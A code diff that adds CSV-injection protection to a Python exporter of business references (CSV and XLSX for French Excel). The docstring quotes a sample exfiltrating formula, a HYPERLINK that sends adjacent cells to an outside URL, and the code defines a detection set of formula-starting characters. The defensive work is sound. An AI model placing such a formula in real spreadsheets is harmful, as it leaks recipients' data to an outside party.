@@ -3,6 +3,13 @@
 One row per reference: description, amount, currency, start, end, client, public or
 private, our role. The CSV is UTF-8 with a BOM and `;` separators, which is what French
 Excel opens correctly by double-click.
+
+Every text cell is data, never a formula (OWASP, "CSV injection"): a spreadsheet runs a
+cell that starts with `=`, `+`, `-`, `@` (or a tab or carriage return, which it strips
+first), and a title such as `=HYPERLINK("http://…?leak="&B3)` would send the buyer's
+neighbouring cells away. In the XLSX such a cell is a string with Excel's quote prefix
+(what typing a leading apostrophe stores: the reader sees the text unchanged); in the CSV
+it starts with an apostrophe, which spreadsheets read as "text follows".
 """
 
 from __future__ import annotations
@@ -135,6 +142,26 @@ def rows_for(selection: Sequence[tuple[str, Mission]], lang: str = "fr") -> list
     return rows
 
 
+# The first characters that make a spreadsheet read a cell as a formula: the ASCII ones,
+# their full-width forms (some spreadsheets fold them), and the tab and CR it strips.
+FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+
+
+def is_formula_like(text: str) -> bool:
+    """Whether a spreadsheet would take `text` for a formula (or something to strip first)."""
+    return bool(text) and text[0] in FORMULA_STARTS
+
+
+def neutralise(text: str) -> str:
+    """`text` as a CSV cell that no spreadsheet evaluates: an apostrophe before it when
+    it starts like a formula (OWASP's advice); honest text is left as it is."""
+    return "'" + text if is_formula_like(text) else text
+
+
+def _cells(row: Row, lang: str) -> list[str | int | None]:
+    return [getattr(row, key) for key, _ in columns(lang)]
+
+
 def to_csv(rows: Sequence[Row], lang: str = "fr") -> bytes:
     """UTF-8 with BOM, `;`-separated, CRLF line ends: French Excel opens it as is."""
     buffer = io.StringIO()
@@ -142,7 +169,10 @@ def to_csv(rows: Sequence[Row], lang: str = "fr") -> bytes:
     writer.writerow([label for _, label in columns(lang)])
     for row in rows:
         writer.writerow(
-            ["" if getattr(row, key) is None else getattr(row, key) for key, _ in columns(lang)]
+            [
+                "" if value is None else neutralise(value) if isinstance(value, str) else value
+                for value in _cells(row, lang)
+            ]
         )
     return ("\ufeff" + buffer.getvalue()).encode("utf-8")
 
@@ -160,7 +190,14 @@ def to_xlsx(rows: Sequence[Row], *, title: str, lang: str = "fr") -> bytes:
         cell.font = Font(bold=True)
         cell.alignment = Alignment(wrap_text=True, vertical="top")
     for row in rows:
-        sheet.append([getattr(row, key) for key, _ in columns(lang)])
+        sheet.append(_cells(row, lang))
+        for cell in sheet[sheet.max_row]:
+            if isinstance(cell.value, str):
+                # openpyxl turns a string starting with `=` into a formula: every text
+                # cell is stored as a string, those that look like formulas quote-prefixed.
+                cell.data_type = "s"
+                if is_formula_like(cell.value):
+                    cell.quotePrefix = True
     amount_column = [key for key, _ in columns(lang)].index("amount") + 1
     for (cell,) in sheet.iter_rows(min_row=2, min_col=amount_column, max_col=amount_column):
         cell.number_format = '#,##0 "€"'
